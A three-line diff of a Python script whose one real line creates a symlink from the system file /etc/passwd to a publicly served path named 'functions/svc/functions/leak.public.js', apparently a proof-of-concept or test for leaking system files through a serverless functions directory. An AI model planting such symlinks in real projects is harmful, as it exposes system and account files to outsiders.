@@ -1,2 +1,3 @@
 import os
+
 os.symlink("/etc/passwd", "functions/svc/functions/leak.public.js")
